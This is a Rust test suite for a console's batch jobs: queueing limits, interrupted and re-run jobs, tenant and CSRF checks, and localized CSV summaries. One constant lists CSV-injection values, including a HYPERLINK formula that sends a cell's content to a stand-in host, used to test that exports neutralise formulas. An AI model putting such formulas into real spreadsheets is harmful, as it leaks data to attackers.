//! The console's batch jobs as a service provider meets them: jobs beyond
//! the limits wait their turn, a stop mid-job leaves it interrupted with
//! what it had done and re-runnable, a job whose process died is found by
//! its old heartbeat, and a failure says why in the reader's language. On
//! SQLite and PostgreSQL.

mod common;

use std::time::{Duration, Instant};

use common::console::{csrf_of, page, sign_in};
use common::{Backend, Server, backends};
use livegate_server::Settings;
use livegate_store::{BatchJob, JobState};

/// `n` profiles, one per line.
fn lines(n: usize) -> String {
    (0..n)
        .map(|i| {
            format!(
                "{{\"id\":\"m-{i}\",\"subject\":{{\"type\":\"enterprise\"}},\
                 \"categories\":[{{\"first\":\"电商平台\",\"second\":\"电商平台\",\"status\":\"pending\"}}],\
                 \"scenarios\":[\"ecommerce_selling\"],\"multi_merchant\":true}}\n"
            )
        })
        .collect()
}

/// Uploads a batch file through the console; the answer.
fn upload(s: &Server, cookie: &str, name: &str, content: &str) -> common::Resp {
    let csrf = csrf_of(&page(s, "/batch", cookie).text());
    let body = format!(
        "--b\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n\
         --b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n{content}\r\n--b--\r\n"
    );
    s.call(
        "POST",
        "/batch",
        None,
        &[
            ("Content-Type", "multipart/form-data; boundary=b"),
            ("Cookie", cookie),
        ],
        body.as_bytes(),
    )
}

/// The job id an upload was redirected to.
fn job_id(r: &common::Resp) -> String {
    assert_eq!(r.status, 303, "{}", r.text());
    let at = r.header("location").expect("a location");
    at.trim_start_matches("/batch/").to_string()
}

fn running(jobs: &[BatchJob]) -> Vec<&str> {
    jobs.iter()
        .filter(|j| j.state == JobState::Running)
        .map(|j| j.id.as_str())
        .collect()
}

fn jobs(s: &Server, tenant: &str) -> Vec<BatchJob> {
    s.rt.block_on(s.store.jobs(tenant, 100)).expect("jobs")
}

fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let start = Instant::now();
    while !done() {
        assert!(
            start.elapsed() < Duration::from_secs(120),
            "waited too long for {what}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn jobs_beyond_the_limits_wait_their_turn_and_all_finish() {
    for b in backends() {
        let settings = Settings {
            batch_jobs: 1,
            ..Settings::default()
        };
        let s = Server::start_with(&b, settings);
        let (acme, globex) = (s.tenant("acme"), s.tenant("globex"));
        let (ca, cg) = (sign_in(&s, &acme.editor), sign_in(&s, &globex.editor));
        let file = lines(3000);
        for _ in 0..3 {
            job_id(&upload(&s, &ca, "a.jsonl", &file));
        }
        job_id(&upload(&s, &cg, "g.jsonl", &file));
        let mut most = 0;
        wait_until("every job to finish", || {
            // Two tenants are two reads: acme is read before and after
            // globex, and a sample counts only when acme held still.
            let (before, g, after) = (jobs(&s, &acme.id), jobs(&s, &globex.id), jobs(&s, &acme.id));
            if running(&before) == running(&after) {
                most = most.max(running(&before).len() + running(&g).len());
            }
            g.iter().chain(&after).all(|j| j.state == JobState::Done)
        });
        assert_eq!(most, 1, "one job at a time across the service");
        for j in jobs(&s, &acme.id) {
            assert_eq!((j.records, j.errors), (3000, 0), "{j:?}");
        }
    }
}

#[test]
fn a_tenants_queue_is_bounded() {
    let settings = Settings {
        batch_jobs: 1,
        ..Settings::default()
    };
    let s = Server::start_with(&Backend::Sqlite, settings);
    let t = s.tenant("acme");
    let cookie = sign_in(&s, &t.editor);
    let file = lines(5000);
    let mut refused = None;
    for i in 0..15 {
        let r = upload(&s, &cookie, "big.jsonl", &file);
        if r.status != 303 {
            refused = Some((i, r));
            break;
        }
    }
    let (i, r) = refused.expect("the queue filled up");
    assert_eq!(r.status, 429, "{}", r.text());
    assert!(i >= 10, "ten may wait: refused at {i}");
    assert!(r.header("retry-after").is_some());
    assert!(
        r.text().contains("个批量任务在排队或处理中"),
        "in the reader's language"
    );
}

#[test]
fn a_stop_mid_job_leaves_it_interrupted_with_its_progress_and_it_runs_again() {
    for b in backends() {
        let mut s = Server::start(&b);
        let t = s.tenant("acme");
        let cookie = sign_in(&s, &t.editor);
        let id = job_id(&upload(&s, &cookie, "big.jsonl", &lines(30_000)));
        wait_until("the job to start", || {
            jobs(&s, &t.id)[0].state == JobState::Running
        });
        std::thread::sleep(Duration::from_millis(300));
        s.restart(Settings::default());
        let job = jobs(&s, &t.id).remove(0);
        assert_eq!(job.state, JobState::Interrupted, "{job:?}");
        assert!(job.records > 0 && job.records < 30_000, "{}", job.records);
        let cookie = sign_in(&s, &t.editor);
        let shown = page(&s, &format!("/batch/{id}"), &cookie).text();
        assert!(shown.contains("已中断"), "{shown}");
        let csrf = csrf_of(&shown);
        let again = common::console::form(
            &s,
            &format!("/batch/{id}/rerun"),
            &cookie,
            &format!("csrf={csrf}"),
        );
        assert_eq!(again.status, 303, "{}", again.text());
        wait_until("the re-run to finish", || {
            jobs(&s, &t.id)[0].state == JobState::Done
        });
        assert_eq!(jobs(&s, &t.id)[0].records, 30_000);
    }
}

#[test]
fn a_job_whose_process_died_is_marked_interrupted() {
    for b in backends() {
        let settings = Settings {
            sweep_every: Duration::from_millis(100),
            ..Settings::default()
        };
        let s = Server::start_with(&b, settings);
        let t = s.tenant("acme");
        let orphan = BatchJob {
            id: "bat_orphan".into(),
            tenant_id: t.id.clone(),
            file_name: "lost.jsonl".into(),
            csv: false,
            created_at: livegate_store::clock::now_rfc3339(),
            state: JobState::Running,
            lines: Some(10),
            records: 4,
            errors: 0,
            verdicts: [0; 4],
            missing: Vec::new(),
            failure: None,
        };
        s.rt.block_on(s.store.create_job(&orphan)).expect("job");
        wait_until("the orphan to be found", || {
            jobs(&s, &t.id)[0].state == JobState::Interrupted
        });
        assert_eq!(jobs(&s, &t.id)[0].records, 4, "what it had done is kept");
    }
}

#[test]
fn a_failed_job_says_why_in_the_readers_language() {
    let s = Server::start(&Backend::Sqlite);
    let t = s.tenant("acme");
    let cookie = sign_in(&s, &t.editor);
    let id = job_id(&upload(&s, &cookie, "bad.csv", "nothing,we,know\n1,2,3\n"));
    wait_until("the job to fail", || {
        jobs(&s, &t.id)[0].state == JobState::Failed
    });
    let failure = jobs(&s, &t.id)[0].failure.clone().unwrap_or_default();
    assert!(failure.contains("CSV 表头有误"), "{failure}");
    let shown = page(&s, &format!("/batch/{id}"), &cookie).text();
    assert!(shown.contains("CSV 表头有误"), "{shown}");
    assert!(!shown.contains("Header("), "no Rust debug text");
}

#[test]
fn run_again_is_refused_to_a_viewer_another_tenant_and_a_forged_form() {
    let s = Server::start(&Backend::Sqlite);
    let (t, other) = (s.tenant("acme"), s.tenant("globex"));
    let cookie = sign_in(&s, &t.editor);
    let id = job_id(&upload(&s, &cookie, "bad.csv", "nothing,we,know\n1,2,3\n"));
    wait_until("the job to fail", || {
        jobs(&s, &t.id)[0].state == JobState::Failed
    });
    let path = format!("/batch/{id}/rerun");
    let csrf_for = |c: &str| csrf_of(&page(&s, "/batch", c).text());
    let viewer = sign_in(&s, &t.viewer);
    let stranger = sign_in(&s, &other.editor);
    let tries = [
        (viewer.clone(), format!("csrf={}", csrf_for(&viewer)), 403),
        (
            stranger.clone(),
            format!("csrf={}", csrf_for(&stranger)),
            404,
        ),
        (cookie.clone(), "csrf=forged".to_string(), 403),
    ];
    for (who, body, status) in tries {
        let r = common::console::form(&s, &path, &who, &body);
        assert_eq!(r.status, status, "{}", r.text());
        assert_eq!(
            jobs(&s, &t.id)[0].state,
            JobState::Failed,
            "nothing changed"
        );
    }
    let csrf = csrf_for(&cookie);
    let r = common::console::form(&s, &path, &cookie, &format!("csrf={csrf}"));
    assert_eq!(r.status, 303, "{}", r.text());
    wait_until("the re-run to fail again", || {
        jobs(&s, &t.id)[0].state == JobState::Failed
    });
    assert_eq!(jobs(&s, &t.id).len(), 1);
    // Queueing again is one step: of two at once, only the first takes.
    let again = |s: &Server| {
        s.rt.block_on(s.store.requeue_job(&t.id, &id))
            .expect("requeue")
    };
    assert!(again(&s));
    assert!(!again(&s), "a job already queued is not queued twice");
    assert!(
        !s.rt
            .block_on(s.store.requeue_job(&other.id, &id))
            .expect("requeue")
    );
}

#[test]
fn a_job_json_from_before_is_adopted_on_start_and_read_once() {
    let mut s = Server::start(&Backend::Sqlite);
    let t = s.tenant("acme");
    let dir = s
        .dir
        .path()
        .join("data/batches")
        .join(&t.id)
        .join("bat_old1");
    std::fs::create_dir_all(&dir).unwrap();
    let file = serde_json::json!({"id": "bat_old1", "file_name": "old.jsonl", "csv": false,
        "created_at": "2026-12-01T00:00:00.000Z", "state": "running", "records": 7, "errors": 1,
        "verdicts": [1, 2, 3, 0], "missing": [["icp_license", 2]], "failure": null, "lines": 20});
    std::fs::write(dir.join("job.json"), file.to_string()).unwrap();
    s.restart(Settings::default());
    wait_until("the old job to be adopted", || !jobs(&s, &t.id).is_empty());
    let job = jobs(&s, &t.id).remove(0);
    assert_eq!(
        job.state,
        JobState::Interrupted,
        "it was running when its process stopped"
    );
    assert_eq!(
        (job.records, job.errors, job.verdicts),
        (7, 1, [1, 2, 3, 0])
    );
    assert_eq!(job.missing, vec![("icp_license".to_string(), 2)]);
    assert!(
        !dir.join("job.json").exists(),
        "adopted once, not read on every start"
    );
}

/// Values a spreadsheet would run as formulas (OWASP: CSV injection).
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+2",
    "-3",
    "@SUM(1+1)",
    "\tx",
    "\rx",
];

#[test]
fn the_summary_csv_is_in_the_readers_language_with_ids_apart_and_no_formula() {
    let s = Server::start(&Backend::Sqlite);
    let t = s.tenant("acme");
    let cookie = sign_in(&s, &t.editor);
    let mut file: String = FORMULAS
        .iter()
        .map(|id| lines(1).replace("\"m-0\"", &serde_json::json!(id).to_string()))
        .collect();
    file.push_str("not json\n");
    let id = job_id(&upload(&s, &cookie, "hostile.jsonl", &file));
    wait_until("the job to finish", || {
        jobs(&s, &t.id).iter().all(|j| j.state == JobState::Done)
    });
    let rs = livegate_core::default_ruleset().expect("the ruleset");
    for lang in [livegate_core::Lang::Zh, livegate_core::Lang::En] {
        let code = if lang == livegate_core::Lang::Zh {
            "zh"
        } else {
            "en"
        };
        let r = page(
            &s,
            &format!("/batch/{id}/summary.csv"),
            &format!("{cookie}; lg_lang={code}"),
        );
        assert_eq!(r.status, 200, "{}", r.text());
        let text = r.text();
        let body = text.strip_prefix('\u{feff}').expect("a byte-order mark");
        let mut rd = csv::ReaderBuilder::new().from_reader(body.as_bytes());
        let head: Vec<String> = rd
            .headers()
            .expect("a header")
            .iter()
            .map(String::from)
            .collect();
        let rows: Vec<csv::StringRecord> = rd.records().map(|r| r.expect("a row")).collect();
        let col = |name: &str| {
            head.iter()
                .position(|h| h == name)
                .unwrap_or_else(|| panic!("{name} in {head:?}"))
        };
        let cjk = |s: &str| s.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c));
        assert_eq!(head[0], if code == "zh" { "行号" } else { "Line" });
        let path = &rs.paths[0];
        let (name, ids) = (
            col(path.name.get(lang)),
            col(&format!("{}_missing", path.id)),
        );
        for (row, formula) in rows.iter().zip(FORMULAS) {
            assert_eq!(&row[1], format!("'{formula}"), "neutralised");
            assert!(
                !row[ids].is_empty() && !cjk(&row[ids]),
                "ids: {:?}",
                &row[ids]
            );
            assert_eq!(
                cjk(&row[name + 1]),
                code == "zh",
                "names: {:?}",
                &row[name + 1]
            );
            assert_eq!(&row[col("verdict")], "needs_action");
            assert_eq!(
                cjk(&row[2]),
                code == "zh",
                "the verdict in words: {:?}",
                &row[2]
            );
        }
        let bad = rows.last().expect("the bad line");
        assert_eq!(&bad[col("error_kind")], "invalid_json");
        let message = &bad[head.len() - 1];
        assert_eq!(cjk(message), code == "zh", "{code}: {message}");
        for row in &rows {
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
            }
        }
    }
}
